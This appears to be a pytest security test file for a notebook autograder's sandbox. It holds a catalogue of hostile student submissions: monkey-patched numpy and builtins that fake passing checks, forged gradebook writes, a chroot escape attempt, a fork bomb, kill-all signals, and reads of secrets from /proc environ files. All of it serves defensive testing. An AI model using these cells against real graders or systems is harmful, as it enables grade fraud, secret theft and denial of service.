"""Attack catalogue: hostile coin_mle submissions graded by `autograder grade` with short limits.

Each attack is a code cell added to an honest notebook: the reference solution (attacks that should
cost nothing: the answers before and after the cell keep their points) or WRONG, a notebook whose every
answer is a plausible mistake (attacks that try to gain marks). For every attack: the row has the
expected status, no question scores above the same notebook without the attack, the attack cell's
own record shows the attack ran and how it was stopped, grading time is bounded, and no process the
attack started is left running. Attack cells see the grader's paths as Python constants (the
PRELUDE), as a student who knows the machine would.
"""

from __future__ import annotations

import copy
import json
import re
import socket
import sys
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest

from autograder.otterformat import is_otter_cell
from autograder.grading.runner import Autograder, Limits, Zygote, grade_notebook
from autograder import testfiles

from conftest import ROOT
from grading import answer_position, grade, scores, solution, with_answers, with_cells, write  # noqa: F401

NAME = "coin_mle"
LIMITS = {"timeout": 20, "cell_timeout": 2}

WRONG = {  # every answer a plausible mistake (each loses marks under the honest grader)
    "q1": "def likelihood(theta, n_heads, n_tails):\n"
          "    theta = np.asarray(theta, dtype=float)\n"
          "    return theta ** n_tails * (1.0 - theta) ** n_heads",
    "q2": "def log_likelihood(theta, n_heads, n_tails):\n"
          "    theta = np.asarray(theta, dtype=float)\n"
          "    return n_heads * np.log2(theta) + n_tails * np.log2(1.0 - theta)",
    "q3": "def theta_mle(n_heads, n_tails):\n    return n_tails / (n_heads + n_tails)",
    "q4": "theta_hat = theta_mle(3, 2)",
    "q5": "grid = np.linspace(0.001, 0.999, 999)\nfig, ax = plt.subplots()\n"
          "ax.plot(grid, likelihood(grid, 3, 2))",
    "q7": "def gaussian_mle(data):\n    x = np.asarray(data, dtype=float)\n"
          "    return float(x.mean()), float(x.std(ddof=1))",
    "q8": "def bernoulli_entropy(p):\n    return float(-sum(w * np.log2(w) for w in (p, 1.0 - p) if w > 0))\n\n"
          "def bernoulli_cross_entropy(p, theta):\n    theta = np.asarray(theta, dtype=float)\n"
          "    return -(p * np.log2(theta) + (1.0 - p) * np.log2(1.0 - theta))\n\n"
          "def bernoulli_kl(p, theta):\n    theta = np.asarray(theta, dtype=float)\n"
          "    return theta * np.log2(theta / p) + (1.0 - theta) * np.log2((1.0 - theta) / (1.0 - p))",
    "q9": "def likelihood_curves(flips, thetas):\n    h, t = flips.count('H'), flips.count('T')\n"
          "    nll = -log_likelihood(np.asarray(thetas, dtype=float), h, t)\n    return nll, nll, nll\n\n"
          "theta_grid = np.linspace(0.005, 0.995, 199)\ncurves = likelihood_curves('HHTHT', theta_grid)\n"
          "theta_best = 0.5",
}


@dataclass(frozen=True)
class Attack:
    id: str
    code: str  # the hostile cell; may use the PRELUDE constants
    status: str  # expected gradebook status
    cell: str = "ok"  # regex the attack cell's record must match: "<status>: <error>"
    base: str = "wrong"  # "wrong": the attack tries to gain marks; "solution": it must cost nothing
    after: str = "q7"  # the attack cell goes right after this question's answer
    seconds: float = 10.0  # bound on the grading time of the submission
    slow: bool = False
    memory_mb: int = 2048

    def param(self):
        return pytest.param(self, id=self.id, marks=[pytest.mark.slow] if self.slow else [])


def costless(*args, **kwargs) -> Attack:
    """An attack between answers of the reference solution: q1-q3 before it, q4-q7 after it."""
    return Attack(*args, base="solution", after="q3", **kwargs)


# ---------------------------------------------------------------- attacks that try to gain marks

GAIN = [
    Attack("patched-numpy", "import numpy as np\nnp.isclose = lambda *a, **k: True\n"
           "np.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
           "np.isnan = lambda x: False", "ok"),
    Attack("patched-builtins", "import builtins\nbuiltins.abs = lambda x: 0.0\n"
           "builtins.all = lambda x: True\nbuiltins.any = lambda x: False\n"
           "builtins.AssertionError = type('AssertionError', (Exception,), {})", "ok"),
    Attack("float-subclass-odd-eq", "class Agreeable(float):\n"
           "    def __eq__(self, other): return True\n    __hash__ = float.__hash__\n"
           "    def __float__(self): return 0.6\n    def __abs__(self): return 0.0\n"
           "    def __lt__(self, other): return True\n    __le__ = __gt__ = __ge__ = __lt__\n"
           "_theta_mle, _gaussian_mle = theta_mle, gaussian_mle\n"
           "def theta_mle(h, t): return Agreeable(_theta_mle(h, t))\n"
           "def gaussian_mle(data): return tuple(Agreeable(v) for v in _gaussian_mle(data))\n"
           "theta_hat = Agreeable(theta_hat)", "ok"),
    Attack("ndarray-subclass-array-ufunc", "import numpy as np\nclass Agreeable(np.ndarray):\n"
           "    def __eq__(self, other): return np.ones(self.shape, dtype=bool)\n"
           "    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):\n"
           "        return np.ones(np.shape(inputs[0]), dtype=bool)\n"
           "_likelihood, _log_likelihood = likelihood, log_likelihood\n"
           "def likelihood(*args): return np.asarray(_likelihood(*args), dtype=float).view(Agreeable)\n"
           "def log_likelihood(*args): return np.asarray(_log_likelihood(*args), dtype=float).view(Agreeable)",
           "ok"),
    Attack("rewrite-test-files",  # Otter's own layout in the working directory, and the real zip/solution
           "import os\nos.makedirs('tests', exist_ok=True)\n"
           "for q in ('q1', 'q2', 'q3', 'q4', 'q5', 'q7'):\n"
           "    open(f'tests/{q}.py', 'w').write(f'test = {{\"name\": \"{q}\", \"points\": 99, \"suites\": []}}')\n"
           "errors = []\nfor path in (ZIP, SOLUTION):\n    try:\n        open(path, 'wb').write(b'forged')\n"
           "    except OSError as exc:\n        errors.append(type(exc).__name__)\n"
           "raise RuntimeError(f'probe: {errors}')",
           "ok", cell=r"error: RuntimeError: probe: \['FileNotFoundError', 'FileNotFoundError'\]"),
    Attack("read-zip-solution-other-submission",  # any of them readable would give theta_hat = 0.6
           "import zipfile\nerrors = []\n"
           "for read in (lambda: zipfile.ZipFile(ZIP).namelist(), lambda: open(SOLUTION).read(),\n"
           "             lambda: exec(open(PLANTED).read(), globals())):\n"
           "    try:\n        read()\n        theta_hat = 0.6\n"
           "    except OSError as exc:\n        errors.append(type(exc).__name__)\n"
           "raise RuntimeError(f'probe: {errors}')",
           "ok", cell=r"error: RuntimeError: probe: \['FileNotFoundError'(, 'FileNotFoundError'){2}\]"),
    Attack("chroot-escape",  # needs CAP_SYS_CHROOT, which the sandbox's uid does not have
           "import os\nos.makedirs('jail', exist_ok=True)\nos.chroot('jail')\n"
           "for _ in range(64):\n    os.chdir('..')\nos.chroot('.')\nexec(open(PLANTED).read())",
           "ok", cell=r"error: PermissionError: .*Operation not permitted"),
    Attack("forge-results-inside",
           "errors = []\nfor path in (f'{OUT}/gradebook.csv', f'{OUT}/results/{SLUG}.json',\n"
           "             f'{OUT}/feedback/{SLUG}.md'):\n"
           "    try:\n        open(path, 'w').write('forged')\n"
           "    except OSError as exc:\n        errors.append(type(exc).__name__)\n"
           "raise RuntimeError(f'probe: {errors}')",
           "ok", cell=r"error: RuntimeError: probe: \['FileNotFoundError'(, 'FileNotFoundError'){2}\]"),
    Attack("forge-results-detached",  # double fork, own session, writes after grading has ended
           "import os\npid = os.fork()\nif pid == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
           "        os.execv('/bin/sh', ['sh', '-c', f'sleep 1; echo forged > {OUT}/gradebook.csv; '\n"
           "                 f'echo forged > {OUT}/results/{SLUG}.json; : {TOKEN}'])\n"
           "    os._exit(0)\nos.waitpid(pid, 0)", "ok"),
    Attack("forge-channel-replies",  # fake replies written straight onto the sandbox's socket
           "import json, socket, struct\nreply = json.dumps({'ok': True, 'value': 0.6, 'output': ''}).encode()\n"
           "for fd in range(3, 64):\n    try:\n        channel = socket.socket(fileno=fd)\n    except OSError:\n"
           "        continue\n    for _ in range(20):\n"
           "        channel.sendall(struct.pack('!I', len(reply)) + reply)\n    channel.detach()", "ok"),
    Attack("environment-secret",  # a public test's failure message is shown to the student
           "import os\n_seen = os.environ.get('XENT_ATTACK_SECRET', 'absent')\n"
           "for _path in ('/proc/self/environ', '/proc/1/environ'):\n    try:\n"
           "        _seen += ' ' + open(_path, 'rb').read().decode(errors='replace')\n"
           "    except OSError:\n        pass\n"
           "def likelihood(theta, n_heads, n_tails):\n    raise ValueError('leak ' + _seen)", "ok"),
    Attack("function-raises-systemexit", "def theta_mle(n_heads, n_tails):\n    raise SystemExit(0)\n"
           "def gaussian_mle(data):\n    raise KeyboardInterrupt", "ok"),
    Attack("sympy-factorial-value",  # evaluated on decoding, this would never finish
           "import sympy\ntheta_hat = sympy.factorial(sympy.Integer(10) ** 100, evaluate=False)", "ok"),
]

# ---------------------------------------------------------------- attacks that must cost the answers nothing

COSTLESS = [
    costless("sys-exit", "import sys\nsys.exit(3)", "ok", cell=r"error: SystemExit: 3"),
    costless("os-exit", "import os\nos._exit(0)", "crashed", cell=r"crashed: "),
    costless("keyboard-interrupt", "raise KeyboardInterrupt", "ok", cell=r"error: KeyboardInterrupt"),
    costless("infinite-python-loop", "while True:\n    pass", "timeout", cell=r"timeout: .*2 s cell time limit"),
    costless("loop-catching-the-timeout", "n = 0\nwhile True:\n    try:\n        while True:\n            n += 1\n"
           "    except BaseException:\n        pass", "timeout", cell=r"timeout: ", slow=True),
    costless("ignored-signals", "import signal\nfor sig in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM, "
           "signal.SIGXCPU):\n    signal.signal(sig, signal.SIG_IGN)\nwhile True:\n    pass",
           "timeout", cell=r"timeout: ", slow=True),
    costless("long-c-level-loop", "import re\nre.match(r'(a|aa)*c', 'a' * 100)", "timeout", cell=r"timeout: ",
           slow=True),
    costless("child-outlives-notebook", "import subprocess\nsubprocess.Popen(['sleep', TOKEN], start_new_session=True)",
           "ok"),
    costless("fork-bomb", "import os\nwhile True:\n    if os.fork() == 0:\n        os.execv('/bin/sleep', ['sleep', TOKEN])",
           "ok", cell=r"error: BlockingIOError"),
    costless("signal-every-process", "import os, signal\nos.kill(-1, signal.SIGKILL)", "ok",
             cell=r"error: ProcessLookupError"),  # no process outside the sandbox to signal
    costless("memory-hog", "hog = []\nwhile True:\n    hog.append(bytearray(10 ** 7))", "memory",
           cell=r"memory: MemoryError", memory_mb=512),
    costless("output-flood", "import sys\nfor _ in range(10 ** 5):\n    print('x' * 1000)\n"
           "sys.stderr.write('y' * 10 ** 7)", "ok"),
    costless("network", "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=1).sendall(b'leak')",
           "ok", cell=r"error: OSError: .*unreachable"),
    costless("write-outside-work",
           "import os, sys\nerrors = []\n"
           "for folder in (ROOT, sys.prefix, '/usr', '/etc', '/', HOST_TMP):\n"
           "    try:\n        open(os.path.join(folder, f'xent-attack-{TOKEN}'), 'w').write('forged')\n"
           "    except OSError as exc:\n        errors.append(type(exc).__name__)\n"
           "raise RuntimeError(f'probe: {len(errors)} blocked')",
           "ok", cell=r"error: RuntimeError: probe: 6 blocked"),
    costless("corrupt-channel-header", "import socket, struct\nfor fd in range(3, 64):\n    try:\n"
           "        channel = socket.socket(fileno=fd)\n    except OSError:\n        continue\n"
           "    channel.sendall(struct.pack('!I', 2 ** 31))\n    channel.detach()", "crashed", cell=r"crashed: "),
]
SECRET = f"xent-secret-{uuid.uuid4().hex}"


def running_with(token: str) -> list[int]:
    """Pids of processes whose command line holds *token*."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def assert_none_left(token: str) -> None:
    deadline = time.monotonic() + 1.0
    while running_with(token) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not running_with(token), "a process started by the submission outlived its grading"


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def listener():
    """A TCP server on the grading machine's loopback that no sandbox must reach."""
    server = socket.create_server(("127.0.0.1", 0))
    yield server
    server.close()


@pytest.fixture(scope="session")
def honest(built, grade, tmp_path_factory):
    """Per-question scores of the two base notebooks without any attack."""
    folder = tmp_path_factory.mktemp("honest")
    inputs = [write(solution(built, NAME), folder / "in" / "solution.ipynb"),
              write(with_answers(solution(built, NAME), WRONG), folder / "in" / "wrong.ipynb")]
    rows = grade(NAME, inputs, folder / "out", **LIMITS).rows
    return {row["submission"]: scores(row) for row in rows}


def test_wrong_base_loses_marks_on_every_question(honest, built):
    full = honest["solution"]
    assert all(honest["wrong"][q] < full[q] for q in full), honest["wrong"]


@pytest.mark.parametrize("attack", [a.param() for a in GAIN + COSTLESS])
def test_attack(attack: Attack, built, grade, honest, listener, tmp_path, monkeypatch):
    token = f"31337.{uuid.uuid4().int % 10 ** 9}"  # also a valid `sleep` duration: marks its processes
    planted = tmp_path / "in" / "other_student.py"  # another submission's answer, next to the input
    planted.parent.mkdir()
    planted.write_text("theta_hat = 0.6\n")
    out = tmp_path / "out"
    prelude = {"OUT": str(out), "SLUG": NAME, "TOKEN": token, "ZIP": str(built[NAME].autograder),
               "SOLUTION": str(ROOT / "solutions" / f"{NAME}.ipynb"), "PLANTED": str(planted),
               "ROOT": str(ROOT), "HOST_TMP": str(tmp_path), "PORT": listener.getsockname()[1]}
    code = "".join(f"{key} = {value!r}\n" for key, value in prelude.items()) + attack.code
    base = solution(built, NAME) if attack.base == "solution" else with_answers(solution(built, NAME), WRONG)
    notebook = write(with_cells(base, attack.after, [code]), tmp_path / "in" / f"{NAME}.ipynb")
    protected = {p: p.read_bytes() for p in (built[NAME].autograder, Path(prelude["SOLUTION"]))}
    monkeypatch.setenv("XENT_ATTACK_SECRET", SECRET)

    started = time.monotonic()
    row = grade(NAME, [notebook], out, memory_mb=attack.memory_mb, **LIMITS).rows[0]
    elapsed = time.monotonic() - started
    after_grading = snapshot(out)

    assert row["status"] == attack.status, row["detail"]
    honest_scores = honest[attack.base]
    got = scores(row)
    assert all(got[q] <= honest_scores[q] for q in got), (got, honest_scores)
    if attack.base == "solution":
        assert got == honest_scores, "answers before and after the attack cell must keep their points"
    attack_index = answer_position(nbformat.read(notebook, as_version=4), attack.after) + 1
    record = next(c for c in row["cells"] if c["index"] == attack_index)
    assert re.match(attack.cell, f"{record['status']}: {record['error']}"), record
    assert row["seconds"] <= attack.seconds and elapsed <= attack.seconds + 10, (row["seconds"], elapsed)

    assert_none_left(token)
    listener.settimeout(0)
    with pytest.raises(BlockingIOError):
        listener.accept()  # nothing ever connected
    for path, content in protected.items():
        assert path.read_bytes() == content
    assert not list(ROOT.glob(f"xent-attack-{token}")) and not list(tmp_path.glob(f"xent-attack-{token}"))
    assert not Path(sys.prefix, f"xent-attack-{token}").exists()
    written = (out / "results" / f"{NAME}.json").read_text() + (out / "feedback" / f"{NAME}.md").read_text()
    assert "forged" not in written and "forged" not in (out / "gradebook.csv").read_text()
    assert SECRET not in written
    assert len(written) < 200_000, "output the submission printed must not reach results or feedback"
    if attack.id in ("forge-results-detached", "child-outlives-notebook", "fork-bomb"):
        time.sleep(1.5)  # longer than the detached writer waits
        assert snapshot(out) == after_grading


def test_environment_secret_attack_reaches_feedback_without_the_secret(built, grade, tmp_path, monkeypatch):
    """The channel the environment-secret attack uses is real: the student's message reaches feedback."""
    monkeypatch.setenv("XENT_ATTACK_SECRET", SECRET)
    attack = next(a for a in GAIN if a.id == "environment-secret")
    notebook = write(with_cells(solution(built, NAME), "q7", [attack.code]), tmp_path / "in" / "leak.ipynb")
    grade(NAME, [notebook], tmp_path / "out", **LIMITS)
    feedback = (tmp_path / "out" / "feedback" / "leak.md").read_text()
    assert "leak absent" in feedback and SECRET not in feedback


@pytest.mark.slow
def test_whole_submission_timeout_kills_everything_and_keeps_finished_answers(built, grade, honest, tmp_path):
    token = f"31337.{uuid.uuid4().int % 10 ** 9}"
    loops = [f"import subprocess\nsubprocess.Popen(['sleep', {token!r}])"] + ["while True:\n    pass"] * 12
    # after the last answer (q9), so that every answer has finished before the loops start
    notebook = write(with_cells(solution(built, NAME), "q9", loops), tmp_path / "in" / f"{NAME}.ipynb")
    started = time.monotonic()
    row = grade(NAME, [notebook], tmp_path / "out", timeout=8, cell_timeout=2).rows[0]
    assert time.monotonic() - started < 8 + 2 + 8  # limit + grace + starting the zygote and the report
    assert row["status"] == "timeout"
    assert row["seconds"] <= 8 + 2
    assert scores(row) == honest["solution"], "answers finished before the time ran out keep their points"
    assert {c["status"] for c in row["cells"][-3:]} == {"skipped"}
    assert_none_left(token)


# ---------------------------------------------------------------- broken inputs

def _broken_inputs(built) -> dict[str, bytes]:
    sol = solution(built, NAME)
    raw = Path(built[NAME].solution).read_bytes()
    code = [i for i, cell in enumerate(sol.cells) if cell.cell_type == "code"]
    deleted = copy.deepcopy(sol)
    del deleted.cells[answer_position(sol, "q7")]
    reordered = copy.deepcopy(sol)
    reordered.cells = reordered.cells[::-1]
    checks_first = copy.deepcopy(sol)
    checks = [c for c in checks_first.cells if c.cell_type == "code" and is_otter_cell(c.source)]
    checks_first.cells = checks + [c for c in checks_first.cells if c not in checks]
    assert len(checks) > 1 and code
    inputs = {
        "empty": b"",
        "whitespace": b"  \n\t ",
        "truncated": raw[: len(raw) // 2],
        "binary": bytes(range(256)) * 64,
        "plain-json": b'{"name": "not a notebook", "cells": "none"}',
        "json-list": b"[1, 2, 3]",
        "deep-json": b"[" * 100_000 + b"]" * 100_000,
        "huge": b'{"cells": [], "padding": "' + b"x" * (21 * 1024 * 1024) + b'"}',
        "cell-source-not-text": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                                            "cells": [{"cell_type": "code", "source": 5, "metadata": {},
                                                       "outputs": [], "execution_count": None}]}).encode(),
        "nbformat-v3": nbformat.writes(nbformat.convert(sol, 3)).encode(),
        "deleted-answer": nbformat.writes(deleted).encode(),
        "reordered-cells": nbformat.writes(reordered).encode(),
        "checks-above-answers": nbformat.writes(checks_first).encode(),
    }
    others = sorted(set(built) - {NAME})
    if others:
        inputs["other-assignment"] = Path(built[others[0]].solution).read_bytes()
    return inputs


BROKEN_STATUS = {"empty": "invalid-notebook", "whitespace": "invalid-notebook", "truncated": "invalid-notebook",
                 "binary": "invalid-notebook", "plain-json": "invalid-notebook", "json-list": "invalid-notebook",
                 "deep-json": "invalid-notebook", "huge": "invalid-notebook",
                 "cell-source-not-text": "invalid-notebook", "nbformat-v3": "ok", "deleted-answer": "ok",
                 "reordered-cells": "ok", "checks-above-answers": "ok", "other-assignment": "wrong-assignment"}


@pytest.fixture(scope="module")
def broken_rows(built, grade, tmp_path_factory):
    """Every broken input graded in one batch: {input name: row}."""
    folder = tmp_path_factory.mktemp("broken")
    paths = []
    for name, data in _broken_inputs(built).items():
        path = folder / "in" / f"{name}.ipynb"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
        paths.append(path)
    started = time.monotonic()
    summary = grade(NAME, paths, folder / "out", workers=2, **LIMITS)
    return {row["submission"]: row for row in summary.rows}, time.monotonic() - started


@pytest.mark.parametrize("name", sorted(BROKEN_STATUS))
def test_broken_input(name, broken_rows, honest):
    rows, elapsed = broken_rows
    if name == "other-assignment" and name not in rows:
        pytest.skip("only one assignment is built")
    row = rows[name]
    assert row["status"] == BROKEN_STATUS[name], row["detail"]
    full = honest["solution"]
    got = scores(row)
    assert set(got) == set(full) and all(got[q] <= full[q] for q in full)
    assert elapsed < 60
    if row["status"] != "ok":
        assert row["score"] == 0 and row["detail"]
    if name in ("nbformat-v3", "checks-above-answers"):
        assert got == full
    if name == "deleted-answer":
        assert got == {**full, "q7": 0.0}
    if name == "reordered-cells":
        assert sum(got.values()) < sum(full.values())  # answers now run before the imports they need


# ---------------------------------------------------------------- trusted-side computation

def test_trusted_side_computation_on_student_values_is_stopped(tmp_path):
    """A SymPy power tower would keep `simplify` busy for ever in the test; the watchdog stops that test."""
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        "import sympy\nanswer = sympy.Pow(10, sympy.Pow(10, 30, evaluate=False), evaluate=False)")])
    path = write(nb, tmp_path / "tower.ipynb")
    cases = (testfiles.TestCase("q1", 0, "import sympy\nassert sympy.simplify(answer - 1) != 0\n", 1.0, True),
             testfiles.TestCase("q2", 0, "assert answer is not None\n", 1.0, False))
    autograder = Autograder(name="synthetic", zip_path=path, sha256="0", cases=cases,
                            contract={"q1": frozenset({"answer"}), "q2": frozenset({"answer"})})
    zygote = Zygote()
    try:
        started = time.monotonic()
        result = grade_notebook(path, autograder, zygote, Limits(timeout=4, cell_timeout=2))
        elapsed = time.monotonic() - started
    finally:
        zygote.close()
    assert elapsed < 4 + 1 + 2
    assert result.status == "ok"
    assert [c.passed for c in result.cases] == [False, True]
    assert "did not finish" in result.cases[0].message
